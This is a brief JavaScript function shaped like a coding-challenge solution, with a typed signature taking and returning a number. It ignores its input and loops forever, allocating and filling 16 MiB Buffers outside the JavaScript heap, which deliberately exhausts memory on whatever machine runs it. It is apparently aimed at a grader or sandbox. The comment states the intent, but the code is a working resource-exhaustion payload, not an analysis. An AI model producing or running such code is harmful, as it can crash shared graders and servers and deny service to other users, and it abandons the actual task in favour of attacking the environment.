// Keeps 16 MiB Buffers (outside the JavaScript heap), every byte written, without end.
/**
 * @param {number} x
 * @return {number}
 */
var probe = function(x) {
    const hoard = [];
    for (;;) {
        hoard.push(Buffer.alloc(16 << 20, hoard.length & 0xff | 1));
    }
};
